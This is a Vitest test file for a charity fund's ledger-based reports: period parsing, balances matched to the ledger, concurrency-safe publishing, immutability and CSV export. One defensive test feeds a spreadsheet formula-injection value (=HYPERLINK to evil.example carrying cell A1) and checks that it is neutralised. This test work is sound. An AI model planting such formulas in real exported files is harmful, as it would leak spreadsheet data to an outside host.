// Fund reports on a real PostgreSQL (issue 13, Deliver 4): ledger history at
// known China-time moments (the money functions take `now`), then reports
// whose balances equal the ledger's at each period's end, chain from one
// period to the next, carry the checkpoint that covers the period, are
// published once under concurrency, and are never changed afterwards.
import pg from "pg";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { UserError } from "~/modules/errors/user-error";
import { fundAccount, platformCoverAccount } from "~/modules/ledger/accounts";
import { JOB_LOCKS } from "~/modules/ledger/exclusive.server";
import { postLedgerTransaction } from "~/modules/ledger/ledger.server";
import { sealAll } from "~/modules/ledger/log.server";
import {
  approveDisbursement,
  markDisbursementPaid,
  matureContributions,
  proposeDisbursement,
  recordRefund,
} from "~/modules/ledger/money-cycle.server";
import { placeOrder } from "~/modules/orders/orders.server";
import { confirmOrderPayment } from "~/modules/payments/fulfilment.server";
import { reportCsv } from "~/modules/reports/csv.server";
import { parseReportPeriod } from "~/modules/reports/period";
import { loadReport, publishDueReports, publishReport, reportArchive, REPORT_SETTLE_MS } from "~/modules/reports/reports.server";
import { cartWith, disbursementProposal, productBySlug, shanghaiBuyer } from "../support/factories";
import { beginTestPayment } from "../support/orders";
import { createFundManager } from "../support/personas";
import { useTestDatabase } from "../support/test-database";

const t = useTestDatabase();
vi.setConfig({ testTimeout: 60_000 });

/** An instant on China's clock: "2026-08-15 10:00". */
const china = (text: string) => new Date(`${text.replace(" ", "T")}:00+08:00`);
/** Well after every period these tests publish (the shop's clock is not moved here). */
const NOW = china("2026-12-02 12:00");

let fundId = "";
let disbursementId = "";

const codeOf = (promise: Promise<unknown>) =>
  promise.then(
    () => "ok",
    (e) => (e instanceof UserError ? `${e.code}:${e.status}:${JSON.stringify(e.params)}` : String(e)),
  );

/** The fund's balances straight from the postings, at an instant (created_at < at), read as people do. */
async function ledgerBalances(at: Date) {
  const { rows } = await t.sql(
    `SELECT a.code, (-coalesce(sum(p.amount_minor), 0))::text AS amount
     FROM ledger_account a JOIN ledger_posting p ON p.account_id = a.id JOIN ledger_transaction t ON t.id = p.transaction_id
     WHERE a.fund_id = $1 AND t.created_at < $2 GROUP BY a.code`,
    [fundId, at],
  );
  const of = (bucket: string) => BigInt(rows.find((r) => r.code === `fund:${fundId}:${bucket}`)?.amount ?? "0");
  const b = { pending: of("pending"), available: of("available"), committed: of("committed") };
  return {
    pending: String(b.pending),
    available: String(b.available),
    committed: String(b.committed),
    total: String(b.pending + b.available + b.committed),
  };
}

/** Lychees bought and paid at `paidAt`, their capture written into the ledger on that day (as the demo history does). */
async function lycheesPaidAt(quantity: number, paidAt: Date) {
  const lychee = await productBySlug(t.db, "lingshan-lychee");
  const order = await placeOrder({
    cartId: await cartWith(t.db, [{ productId: lychee.id, quantity }]),
    contact: shanghaiBuyer,
    now: paidAt,
  });
  await confirmOrderPayment({
    provider: "test",
    providerRef: await beginTestPayment(order.id, paidAt),
    amountMinor: order.totalMinor,
    currency: "CNY",
    causedBy: "test",
    now: paidAt,
    ledgerAt: paidAt,
  });
  return order;
}

beforeAll(async () => {
  const fund = await t.db.fund.findUniqueOrThrow({ where: { slug: "lychee-town-relief" } });
  fundId = fund.id;
  await t.db.product.update({ where: { slug: "lingshan-lychee" }, data: { stock: 1_000_000 } });
  // The fund began in July; its history is built at known moments after that.
  await t.sql("UPDATE fund SET created_at = $1 WHERE id = $2", [china("2026-07-10 09:00"), fundId]);
  const [proposer, approver] = [await createFundManager(t.db, fundId), await createFundManager(t.db, fundId)];

  // August: 2 boxes (¥6.36 to the fund) and 1 box (¥3.18); the second is half refunded the same month (¥1.59 back).
  await lycheesPaidAt(2, china("2026-08-15 10:00"));
  const second = await lycheesPaidAt(1, china("2026-08-20 10:00"));
  const line = await t.db.orderLine.findFirstOrThrow({ where: { orderId: second.id } });
  await recordRefund({
    provider: "test",
    providerRef: "report-r1",
    orderLineId: line.id,
    amountMinor: 15900n,
    causedBy: "test",
    now: china("2026-08-25 10:00"),
  });
  // September: both mature (15-day refund window), ¥5.00 is approved for a project.
  expect(await matureContributions(china("2026-09-10 10:00"))).toBeGreaterThanOrEqual(2);
  const proposal = {
    ...disbursementProposal("500", { village: "灵山荔乡", project: "荔枝冷链", purpose: "冷链箱" }),
    plannedDate: "2026-09-20",
  };
  const proposed = await proposeDisbursement(proposer.id, fundId, proposal, china("2026-09-12 10:00"));
  disbursementId = proposed.id;
  await approveDisbursement(approver.id, disbursementId, china("2026-09-13 10:00"));
  // An objection lodged in September and answered (as the objections part writes them; only the text is public).
  await t.sql(
    `INSERT INTO disbursement_objection (id, disbursement_id, text, name, contact, status, decision, answer, answered_by_id, answered_at, created_at)
     VALUES (gen_random_uuid(), $1, '冷链箱的报价是否太高？', '邓先生', '13800000000', 'dismissed', 'dismiss', '报价来自三家比价，取最低。', $2, $3, $4)`,
    [disbursementId, approver.id, china("2026-09-15 09:00"), china("2026-09-14 20:00")],
  );
  // November: it is paid.
  await markDisbursementPaid(approver.id, disbursementId, "BANK-REPORT-1", china("2026-11-03 10:00"));
  await sealAll({ db: t.db });
});

describe("periods (China time)", () => {
  it("parses months, quarters and years at China's midnight, and nothing else", () => {
    expect(parseReportPeriod("2026-11")).toMatchObject({
      period: "month",
      startsAt: china("2026-11-01 00:00"),
      endsAt: china("2026-12-01 00:00"),
    });
    expect(parseReportPeriod("2026-Q4")).toMatchObject({
      period: "quarter",
      startsAt: china("2026-10-01 00:00"),
      endsAt: china("2027-01-01 00:00"),
    });
    expect(parseReportPeriod("2026")).toMatchObject({
      period: "year",
      startsAt: china("2026-01-01 00:00"),
      endsAt: china("2027-01-01 00:00"),
    });
    for (const bad of ["2026-13", "2026-00", "2026-Q5", "26-11", "2026-1", "abc", "2026-11.csv", ""])
      expect(parseReportPeriod(bad)).toBeNull();
  });
});

describe("a report's figures come from the ledger", () => {
  it("closes each month at the ledger's balance at its end, which is the next month's opening", async () => {
    // November straight after July: its opening is July's closing plus everything in between (no report there yet).
    const months = ["2026-07", "2026-11", "2026-08", "2026-09", "2026-10"];
    const published = new Map<string, NonNullable<Awaited<ReturnType<typeof publishReport>>>>();
    for (const key of months) {
      const report = await publishReport(fundId, key, NOW);
      expect(report, key).not.toBeNull();
      published.set(key, report!);
      const period = parseReportPeriod(key)!;
      expect(report!.figures.opening, `${key} opening`).toEqual(await ledgerBalances(period.startsAt));
      expect(report!.figures.closing, `${key} closing`).toEqual(await ledgerBalances(period.endsAt));
    }
    const reports = [...months].sort().map((key) => published.get(key)!);
    for (let k = 1; k < reports.length; k++) expect(reports[k].figures.opening).toEqual(reports[k - 1].figures.closing);

    const [, august, september, , november] = reports;
    // August: 636 + 318 in, 159 back, all pending.
    expect(august.figures.received).toMatchObject({ sales: "954", gifts: "0", total: "954" });
    expect(august.figures.refunds).toEqual({ total: "159", count: 1 });
    expect(august.figures.closing).toEqual({ pending: "795", available: "0", committed: "0", total: "795" });
    expect(august.figures.received.byVillage).toHaveLength(1);
    expect(august.figures.received.byCooperative[0]).toMatchObject({ amount: "954" });
    // September: matured, ¥5.00 agreed, the objection with its answer, never its name or contact.
    expect(september.figures.closing).toEqual({ pending: "0", available: "295", committed: "500", total: "795" });
    expect(september.figures.disbursements).toMatchObject({ agreed: "500", arrived: "0" });
    expect(september.figures.objections).toEqual([
      expect.objectContaining({ text: "冷链箱的报价是否太高？", status: "dismissed", answer: "报价来自三家比价，取最低。" }),
    ]);
    expect(JSON.stringify(september.figures)).not.toMatch(/邓先生|13800000000/);
    // November: it arrived.
    expect(november.figures.disbursements).toMatchObject({ agreed: "0", arrived: "500" });
    expect(november.figures.paid).toBe("500");
    expect(november.figures.closing).toEqual({ pending: "0", available: "295", committed: "0", total: "295" });
  });

  it("a quarter and a year open and close where their first and last months do", async () => {
    const q3 = (await publishReport(fundId, "2026-Q3", NOW))!;
    const july = (await loadReport(fundId, "2026-07"))!;
    const september = (await loadReport(fundId, "2026-09"))!;
    expect(q3.figures.opening).toEqual(july.figures.opening);
    expect(q3.figures.closing).toEqual(september.figures.closing);
    expect(q3.figures.closing).toEqual(await ledgerBalances(parseReportPeriod("2026-Q3")!.endsAt));
    expect(q3.figures.received.sales).toBe("954");
  });

  it("carries the first checkpoint that holds every transaction before the period's end", async () => {
    const august = (await loadReport(fundId, "2026-08"))!;
    const endsAt = parseReportPeriod("2026-08")!.endsAt;
    const { rows: before } = await t.sql(
      "SELECT max(l.sequence)::text AS max FROM ledger_log l JOIN ledger_transaction t ON t.id = l.transaction_id WHERE t.created_at < $1",
      [endsAt],
    );
    expect(august.checkpointTreeSize).not.toBeNull();
    expect(Number(august.checkpointTreeSize)).toBeGreaterThanOrEqual(Number(before[0].max));
    const { rows: checkpoint } = await t.sql("SELECT encode(root_hash, 'hex') AS root FROM ledger_checkpoint WHERE tree_size = $1", [
      String(august.checkpointTreeSize),
    ]);
    expect(checkpoint[0].root).toBe(august.checkpointRootHash);
    // No smaller checkpoint covers them all.
    const { rows: smaller } = await t.sql("SELECT count(*)::int AS n FROM ledger_checkpoint WHERE tree_size >= $1 AND tree_size < $2", [
      before[0].max,
      String(august.checkpointTreeSize),
    ]);
    expect(smaller[0].n).toBe(0);
  });

  it("waits while a transaction of the period is still being sealed, and just after the period's end", async () => {
    const fund = await t.db.fund.create({
      data: { slug: "report-wait-fund", nameZh: "等待基金", nameEn: "Waiting fund", createdAt: china("2026-09-01 09:00") },
    });
    expect(await publishReport(fund.id, "2026-11", new Date(china("2026-12-01 00:00").getTime() + REPORT_SETTLE_MS - 1000))).toBeNull();
    // A transaction stamped in October, not yet sealed.
    await t.db.$transaction(async (tx) => {
      const available = fundAccount({ ...fund, currency: "CNY" }, "available");
      const cover = platformCoverAccount("CNY");
      await postLedgerTransaction(
        tx,
        {
          idempotencyKey: `report-wait:${fund.id}`,
          kind: "platform_cover",
          memo: "test",
          causedBy: "test",
          accounts: [available, cover],
          postings: [
            { accountCode: cover.code, amountMinor: 100n, currency: "CNY" },
            { accountCode: available.code, amountMinor: -100n, currency: "CNY" },
          ],
        },
        china("2026-10-05 10:00"),
      );
    });
    expect(await publishReport(fund.id, "2026-10", NOW)).toBeNull();
    await sealAll({ db: t.db });
    const october = await publishReport(fund.id, "2026-10", NOW);
    expect(october?.figures.closing).toEqual({ pending: "0", available: "100", committed: "0", total: "100" });
    expect(october?.figures.covered).toBe("100");
  });
});

describe("periods without a report", () => {
  it("refuses a future period, the current one (saying when it will be published) and one before the fund began, writing nothing", async () => {
    const before = await t.db.fundReport.count();
    expect(await codeOf(publishReport(fundId, "2027-03", NOW))).toBe('report_period_future:404:{"date":"2027-03-01"}');
    expect(await codeOf(publishReport(fundId, "2027", NOW))).toBe('report_period_future:404:{"date":"2027-01-01"}');
    expect(await codeOf(publishReport(fundId, "2026-12", NOW))).toBe('report_period_not_ended:404:{"date":"2027-01-01"}');
    expect(await codeOf(publishReport(fundId, "2026-Q4", NOW))).toBe('report_period_not_ended:404:{"date":"2027-01-01"}');
    expect(await codeOf(publishReport(fundId, "2026-06", NOW))).toBe("report_period_unknown:404:{}");
    expect(await codeOf(publishReport(fundId, "2026-13", NOW))).toBe("report_period_unknown:404:{}");
    expect(await t.db.fundReport.count()).toBe(before);
  });
});

describe("publishing", () => {
  it("publishes a period once, even when asked four times at once (one computes, the others hear 'not ready' or get it), with one notice", async () => {
    const race = await t.db.fund.create({
      data: { slug: "report-race-fund", nameZh: "并发基金", nameEn: "Race fund", createdAt: china("2026-08-01 09:00") },
    });
    const asked = await Promise.all([0, 1, 2, 3].map(() => publishReport(race.id, "2026-08", NOW)));
    // Whoever was turned away while another computed gets null ("being prepared"); asking again gets the one report.
    expect(asked.some((r) => r !== null)).toBe(true);
    const fresh = [...asked.filter((r) => r !== null), await publishReport(race.id, "2026-08", NOW)];
    expect(new Set(fresh.map((r) => r!.id)).size).toBe(1);
    expect(await t.db.fundReport.count({ where: { fundId: race.id, periodKey: "2026-08" } })).toBe(1);
    const { rows } = await t.sql("SELECT count(*)::int AS n FROM fund_notice WHERE kind = 'report_published' AND report_id = $1", [
      fresh[0]!.id,
    ]);
    expect(rows[0].n).toBe(1);
  });

  it("turns a visitor away at once while another computes the same period, computing nothing", async () => {
    const busy = await t.db.fund.create({
      data: { slug: "report-busy-fund", nameZh: "忙碌基金", nameEn: "Busy fund", createdAt: china("2026-08-01 09:00") },
    });
    const other = new pg.Client(t.ownerConnection);
    await other.connect();
    try {
      // What publishReport takes while it computes (fund, period, key), held here as by another request.
      await other.query("SELECT pg_advisory_lock(7001131, hashtext($1))", [`${busy.id}:month:2026-08`]);
      expect(await publishReport(busy.id, "2026-08", NOW)).toBeNull();
      expect(await t.db.fundReport.count({ where: { fundId: busy.id } })).toBe(0);
      // Another period of the same fund is not held back.
      expect(await publishReport(busy.id, "2026-09", NOW)).not.toBeNull();
    } finally {
      await other.end();
    }
    expect((await publishReport(busy.id, "2026-08", NOW))?.periodKey).toBe("2026-08");
  });

  it("publishDueReports publishes what is due for every fund, once, and steps aside while another instance holds its lock", async () => {
    const first = await publishDueReports(NOW);
    expect(first).toBeGreaterThanOrEqual(0);
    const keys = (await t.db.fundReport.findMany({ where: { fundId }, select: { periodKey: true } })).map((r) => r.periodKey).sort();
    expect(keys).toEqual(["2026-07", "2026-08", "2026-09", "2026-10", "2026-11", "2026-Q3"]);
    expect(await publishDueReports(NOW)).toBe(0);

    const other = new pg.Client(t.ownerConnection);
    await other.connect();
    try {
      await other.query("SELECT pg_advisory_lock($1::bigint)", [String(JOB_LOCKS.publishFundReports)]);
      expect(await publishDueReports(NOW)).toBeNull();
    } finally {
      await other.end();
    }
  });

  it("lists the ended periods in the archive, newest first", async () => {
    const fund = await t.db.fund.findUniqueOrThrow({ where: { id: fundId } });
    const archive = await reportArchive(fund, NOW);
    expect(archive.months.map((m) => m.key)).toEqual(["2026-11", "2026-10", "2026-09", "2026-08", "2026-07"]);
    expect(archive.quarters.map((m) => m.key)).toEqual(["2026-Q3"]);
    expect(archive.years).toEqual([]);
    expect(archive.months.every((m) => m.publishedAt !== null)).toBe(true);
    expect(archive.next).toEqual({ key: "2026-12", date: "2027-01-01" });
  });

  it("a published report is never changed: the database refuses an UPDATE and a DELETE", async () => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    await expect(t.sql("UPDATE fund_report SET figures = '{}'::jsonb WHERE fund_id = $1", [fundId])).rejects.toThrow();
    await expect(t.sql("DELETE FROM fund_report WHERE fund_id = $1", [fundId])).rejects.toThrow();
    expect((await loadReport(fundId, "2026-08"))!.figures.received.sales).toBe("954");
  });
});

describe("the CSV", () => {
  it("starts with a byte-order mark and has the report's figures, one row each", async () => {
    const fund = await t.db.fund.findUniqueOrThrow({ where: { id: fundId } });
    const csv = reportCsv(fund, (await loadReport(fundId, "2026-09"))!);
    expect(csv.startsWith("\uFEFFsection,item,detail,status,amount,amount_minor_units,currency\n")).toBe(true);
    const lines = csv.slice(1).trim().split("\n");
    expect(lines).toContain("opening_balance,total,,,7.95,795,CNY");
    expect(lines).toContain("closing_balance,committed,,,5.00,500,CNY");
    expect(lines).toContain("disbursements,agreed,,,5.00,500,CNY");
    expect(lines).toContain("objection,灵山荔乡 · 荔枝冷链,冷链箱的报价是否太高？,dismissed,,,");
    expect(lines).toContain("objection_answer,灵山荔乡 · 荔枝冷链,报价来自三家比价，取最低。,dismissed,,,");
    expect(lines.some((l) => l.startsWith("checkpoint,root_hash,") && /[0-9a-f]{64}/.test(l))).toBe(true);
    expect(csv).not.toMatch(/邓先生|13800000000/);
  });

  it("never lets a typed text run as a spreadsheet formula (an objection is written by anyone); amounts stay numbers", async () => {
    const fund = await t.db.fund.findUniqueOrThrow({ where: { id: fundId } });
    const report = (await loadReport(fundId, "2026-09"))!;
    const [first] = report.figures.objections;
    report.figures.objections = [
      { ...first, text: '=HYPERLINK("https://evil.example/?"&A1,"详情")', answer: "@SUM(1+1)" },
      { ...first, village: "+村", project: "-项目", text: "-2+3" },
    ];
    const lines = reportCsv(fund, report).slice(1).trim().split("\n");
    expect(lines).toContain(`objection,灵山荔乡 · 荔枝冷链,"'=HYPERLINK(""https://evil.example/?""&A1,""详情"")",dismissed,,,`);
    expect(lines).toContain("objection_answer,灵山荔乡 · 荔枝冷链,'@SUM(1+1),dismissed,,,");
    expect(lines).toContain("objection,'+村 · -项目,'-2+3,dismissed,,,");
    // No cell of the whole file starts a formula.
    const cells = lines.flatMap((line) => line.split(","));
    expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
    expect(lines).toContain("opening_balance,total,,,7.95,795,CNY");
  });
});
